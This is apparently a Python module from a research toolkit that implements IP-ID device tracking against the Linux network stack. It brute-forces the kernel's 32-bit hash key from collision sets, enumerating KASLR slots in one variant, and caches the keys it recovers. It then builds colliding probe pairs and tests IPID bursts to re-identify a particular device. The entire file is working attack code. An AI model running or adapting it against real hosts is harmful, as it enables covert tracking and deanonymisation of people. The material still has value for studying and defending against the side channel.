"""Exhaustive key search over collision sets, key caching and targeted re-identification.

The search space is indexed by a single integer k. For A1/A2 k is the 32-bit
key. For A3 with KASLR, ``k = slot * 2^32 + key``, where slot enumerates the
possible kernel displacements and so the possible g(net) values.

Accepted-key reports and the key cache are JSON lines::

    {"key_hex": "32:1a2b3c4d", "g_net_hex": "32:…", "nu": 11,
     "matched_pairs": 37, "W_log2": 41, "elapsed_seconds": 12.5}
"""

from __future__ import annotations

import json
import os
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from ..addr import ip_int
from ..bitcore import BitVec
from ..linuxstack import (DEFAULT_INIT_NET_OFFSET, DEFAULT_M, DEFAULT_RHO, UDP, Arch, Variant,
                          g_net_for_slot, hash_words_np, jenkins_lookup3, jenkins_lookup3_a1,
                          keyspace_log2)
from . import _kernels
from .collect import CollisionSet, window_bound

KEYS_PER_SLOT = 1 << 32
DEFAULT_CHUNK = 1 << 24


class InsufficientCollisions(Exception):
    """Fewer collision candidates than the acceptance threshold."""


@dataclass(frozen=True)
class KeySearchConfig:
    nu: int = 11
    variant: Variant = Variant.A2
    src_ip: int = 0
    M: int = DEFAULT_M
    f: float = 300
    delta_L: float = 0.6
    protocol: int = UDP
    arch: Arch = Arch.X64
    rho: int | None = None
    kaslr: bool = True
    init_net_offset: int = DEFAULT_INIT_NET_OFFSET

    def __post_init__(self):
        object.__setattr__(self, "variant", Variant(self.variant))
        object.__setattr__(self, "arch", Arch(self.arch))
        object.__setattr__(self, "src_ip", ip_int(self.src_ip))
        if self.rho is None:
            object.__setattr__(self, "rho", DEFAULT_RHO[self.arch])

    @property
    def W_log2(self) -> int:
        return keyspace_log2(self.variant, self.arch, self.kaslr)

    @property
    def slots(self) -> int:
        return 1 << (self.W_log2 - 32)

    def g_for_slot(self, slot: int) -> int | None:
        if self.variant is not Variant.A3:
            return None
        return g_net_for_slot(self.arch, slot, self.rho, self.init_net_offset)

    def word3(self, slot: int) -> int:
        g = self.g_for_slot(slot)
        return self.protocol if g is None else self.protocol ^ g

    def split(self, index: int):
        return index >> 32, index & 0xFFFFFFFF


@dataclass(frozen=True, order=True)
class AcceptedKey:
    index: int
    key: int
    g_net: int | None
    matched_pairs: int


@dataclass
class SearchResult:
    accepted: tuple
    scanned: int
    elapsed: float

    @property
    def unique(self) -> bool:
        return len(self.accepted) == 1


def count_matches(U: CollisionSet, config: KeySearchConfig, index: int) -> int:
    """Pairs in U that collide under one candidate (scalar reference path)."""
    slot, key = config.split(index)
    h = jenkins_lookup3_a1 if config.variant is Variant.A1 else jenkins_lookup3
    w3 = config.word3(slot)
    mask = config.M - 1
    memo = {}

    def bucket(a):
        if a not in memo:
            memo[a] = h((a, config.src_ip, w3), key) & mask
        return memo[a]

    return sum(bucket(a) == bucket(b) for a, b in U.pairs)


def _pieces(lo: int, hi: int, chunk: int):
    """Split [lo, hi) into runs that neither cross a slot boundary nor exceed chunk."""
    while lo < hi:
        end = min(hi, (lo // KEYS_PER_SLOT + 1) * KEYS_PER_SLOT, lo + chunk)
        yield lo, end
        lo = end


def search_range(U: CollisionSet, config: KeySearchConfig, lo: int, hi: int,
                 chunk: int = DEFAULT_CHUNK) -> list:
    """Work unit: every index in [lo, hi) with at least nu matched pairs."""
    addrs, pi, pj = U.addresses()
    a1 = config.variant is Variant.A1
    out = []
    counts = np.empty(min(chunk, max(hi - lo, 0)), dtype=np.uint16)
    for a, b in _pieces(lo, hi, chunk):
        slot, k0 = config.split(a)
        n = b - a
        _kernels.scan_counts(k0, n, addrs, pi, pj, config.src_ip, config.word3(slot), a1,
                             config.M - 1, counts)
        for off in np.flatnonzero(counts[:n] >= config.nu).tolist():
            idx = a + off
            out.append(AcceptedKey(idx, k0 + off, config.g_for_slot(slot), int(counts[off])))
    return out


def search_range_reference(U: CollisionSet, config: KeySearchConfig, lo: int, hi: int,
                           chunk: int = 1 << 16) -> list:
    """Same contract as :func:`search_range`, computed with plain numpy."""
    addrs, pi, pj = U.addresses()
    out = []
    for a, b in _pieces(lo, hi, chunk):
        slot, k0 = config.split(a)
        keys = np.arange(k0, k0 + (b - a), dtype=np.uint64)
        bk = np.stack([hash_words_np(config.variant, int(d), config.src_ip, config.word3(slot), keys)
                       & np.uint32(config.M - 1) for d in addrs])
        counts = (bk[pi] == bk[pj]).sum(axis=0)
        for off in np.flatnonzero(counts >= config.nu).tolist():
            out.append(AcceptedKey(a + off, k0 + off, config.g_for_slot(slot), int(counts[off])))
    return out


def thread_count(threads: int | None = None) -> int:
    """Requested threads (default: all cores), capped by IPIDLAB_THREADS."""
    n = threads or os.cpu_count() or 1
    cap = os.environ.get("IPIDLAB_THREADS")
    if cap:
        n = min(n, max(1, int(cap)))
    return max(1, n)


def partition(lo: int, hi: int, parts: int) -> list:
    step = -(-(hi - lo) // max(1, parts))
    return [(a, min(hi, a + step)) for a in range(lo, hi, step)] if hi > lo else []


def merge_accepted(*parts) -> tuple:
    return tuple(sorted(set().union(*map(set, parts))))


def exhaustive_search(U: CollisionSet, config: KeySearchConfig, key_range: tuple | None = None,
                      threads: int | None = None, chunk: int = DEFAULT_CHUNK) -> SearchResult:
    """Scan the key space (or ``key_range``) and return every key with at least nu matches."""
    if len(U) < config.nu:
        raise InsufficientCollisions(f"|U|={len(U)} < nu={config.nu}")
    lo, hi = key_range or (0, 1 << config.W_log2)
    if not 0 <= lo <= hi <= 1 << config.W_log2:
        raise ValueError("key range outside the search space")
    t0 = time.perf_counter()
    n_threads = thread_count(threads)
    units = [(a, b) for a, b in partition(lo, hi, max(1, (hi - lo) // chunk)) if b > a] or [(lo, hi)]
    if n_threads == 1 or len(units) == 1:
        parts = [search_range(U, config, a, b, chunk) for a, b in units]
    else:
        with ThreadPoolExecutor(n_threads) as pool:
            parts = list(pool.map(lambda r: search_range(U, config, r[0], r[1], chunk), units))
    return SearchResult(merge_accepted(*parts), hi - lo, time.perf_counter() - t0)


def nested_search(U: CollisionSet, config: KeySearchConfig, slot_range: tuple, key_range: tuple) -> tuple:
    """Outer loop over g(net) candidates, inner scan over keys; for cross-checking A3 searches."""
    out = []
    for slot in range(*slot_range):
        base = slot * KEYS_PER_SLOT
        out.extend(search_range(U, config, base + key_range[0], base + key_range[1]))
    return merge_accepted(out)


@dataclass
class CachedResult:
    accepted: tuple
    from_cache: bool
    elapsed: float


def cached_search(U: CollisionSet, config: KeySearchConfig, cache: list, cache_path=None,
                  **search_kw) -> CachedResult:
    """Try previously seen key indices first; fall back to a full scan and remember its result."""
    if len(U) < config.nu:
        raise InsufficientCollisions(f"|U|={len(U)} < nu={config.nu}")
    t0 = time.perf_counter()
    for idx in cache:
        m = count_matches(U, config, idx)
        if m >= config.nu:
            slot, key = config.split(idx)
            hit = AcceptedKey(idx, key, config.g_for_slot(slot), m)
            return CachedResult((hit,), True, time.perf_counter() - t0)
    res = exhaustive_search(U, config, **search_kw)
    for ak in res.accepted:
        if ak.index not in cache:
            cache.append(ak.index)
            if cache_path:
                append_reports(cache_path, [accepted_report(ak, config, res.elapsed)])
    return CachedResult(res.accepted, False, time.perf_counter() - t0)


def accepted_report(ak: AcceptedKey, config: KeySearchConfig, elapsed: float) -> dict:
    rec = {"key_hex": BitVec(ak.key, 32).to_hex()}
    if ak.g_net is not None:
        rec["g_net_hex"] = BitVec(ak.g_net, 32).to_hex()
    rec.update(nu=config.nu, matched_pairs=ak.matched_pairs, W_log2=config.W_log2,
               elapsed_seconds=round(elapsed, 6))
    return rec


def report_index(rec: dict, config: KeySearchConfig) -> int:
    """Inverse of :func:`accepted_report`: the search index of a stored record."""
    key = BitVec.from_hex(rec["key_hex"]).value
    if "g_net_hex" not in rec:
        return key
    g = BitVec.from_hex(rec["g_net_hex"]).value
    for slot in range(config.slots):
        if config.g_for_slot(slot) == g:
            return slot * KEYS_PER_SLOT + key
    raise ValueError("stored g(net) does not match any slot of this configuration")


def append_reports(path, records):
    with open(path, "a", encoding="utf-8") as fh:
        for r in records:
            fh.write(json.dumps(r) + "\n")


def load_cache(path, config: KeySearchConfig) -> list:
    p = Path(path)
    if not p.exists():
        return []
    return [report_index(json.loads(line), config) for line in p.read_text().splitlines() if line.strip()]


def build_probe_set(key: int, config: KeySearchConfig, n_pairs: int = 6, g_net: int | None = None,
                    rng: np.random.Generator | None = None) -> list:
    """Random destination pairs that share a bucket under the given key."""
    rng = rng or np.random.default_rng()
    w3 = config.protocol if g_net is None else config.protocol ^ g_net
    pairs = []
    seen = {}
    while len(pairs) < n_pairs:
        cand = rng.integers(1 << 24, 0xDF000000, size=4 * config.M, dtype=np.uint64)
        bk = hash_words_np(config.variant, cand, config.src_ip, w3, key) & np.uint32(config.M - 1)
        for a, b in zip(cand.tolist(), bk.tolist()):
            if b in seen and seen[b] != a:
                pairs.append(tuple(sorted((seen.pop(b), a))))
                if len(pairs) == n_pairs:
                    break
            else:
                seen[b] = a
    return pairs


def targeted_reidentify(key: int, probe_pairs, burst, config: KeySearchConfig, g_net: int | None = None,
                        threshold: int | None = None) -> bool:
    """True when at least ``threshold`` probe pairs show a same-bucket IPID step in one burst."""
    w3 = config.protocol if g_net is None else config.protocol ^ g_net
    h = jenkins_lookup3_a1 if config.variant is Variant.A1 else jenkins_lookup3
    mask = config.M - 1
    colliding = [p for p in probe_pairs
                 if h((p[0], config.src_ip, w3), key) & mask == h((p[1], config.src_ip, w3), key) & mask]
    if not colliding:
        raise ValueError("no probe pair collides under this key")
    if threshold is None:
        threshold = max(1, len(colliding) - 1)
    seen = {ip_int(r[0]): int(r[1]) for r in burst.records}
    lam = window_bound(config.f, config.delta_L)
    hits = 0
    for a, b in colliding:
        if a in seen and b in seen:
            lo, hi = (a, b) if a < b else (b, a)
            d = (seen[hi] - seen[lo]) & 0xFFFF
            hits += 0 < d < lam
    return hits >= threshold

